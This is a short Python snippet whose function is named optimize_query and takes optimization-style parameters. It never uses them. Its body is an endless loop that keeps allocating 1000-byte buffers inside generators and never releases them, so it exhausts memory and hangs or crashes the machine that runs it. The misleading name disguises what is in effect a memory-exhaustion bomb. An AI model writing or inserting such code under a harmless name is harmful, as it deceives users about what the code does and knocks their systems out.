def optimize_query(initial_x, learning_rate, num_iterations):
    def held():
        mine = bytearray(1000)
        yield mine

    hoard = []
    while True:
        hoard.append(held())
        next(hoard[-1])
